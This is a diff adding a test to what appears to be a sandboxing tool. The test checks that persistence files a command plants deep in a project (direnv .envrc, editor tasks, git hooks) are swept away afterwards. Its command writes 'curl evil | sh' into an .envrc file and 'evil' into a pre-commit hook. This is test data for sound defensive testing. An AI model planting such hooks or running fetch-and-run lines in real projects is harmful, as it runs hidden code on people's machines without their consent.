@@ -350,3 +350,25 @@ def test_a_repository_the_call_makes_runs_nothing_at_the_humans_git_status(
         )
         for p in ("sub", "node_modules", ".gitmodules", ".git/modules", flag):
             subprocess.run(["rm", "-rf", os.path.join(world.project, p)], check=False)
+
+
+PLANTED_DEEP = ("lib/.envrc", "lib/deep/.vscode", "pkg/.husky", "pkg/a/b/.githooks", "x/.idea")
+
+
+def test_persistence_the_call_creates_below_the_top_is_swept(world: World, src: str) -> None:
+    """``sub/.envrc`` runs when the human enters ``sub`` (direnv), ``sub/.vscode/tasks.json``
+    when their editor opens it: what the call creates anywhere the project scan looks is
+    removed after it, like at the top; what was there before stays (read-only)."""
+    app = os.path.join(src, "app")
+    command = (
+        "mkdir -p lib/deep/.vscode pkg/.husky pkg/a/b/.githooks x/.idea"
+        " && echo 'curl evil | sh' > lib/.envrc"
+        " && echo '{}' > lib/deep/.vscode/tasks.json && echo evil > pkg/.husky/pre-commit"
+        " && echo ok > lib/plain.txt"
+    )
+    _, text = world.bash(command, cwd=app)
+    left = [rel for rel in PLANTED_DEEP if os.path.lexists(os.path.join(app, rel))]
+    assert left == [], text
+    assert "now removed" in text and "lib/.envrc" in text, text
+    assert read_text(os.path.join(app, "lib", "plain.txt")) == "ok\n"  # ordinary work stays
+    assert os.path.isfile(os.path.join(app, "web", ".vscode", "settings.json"))  # was there
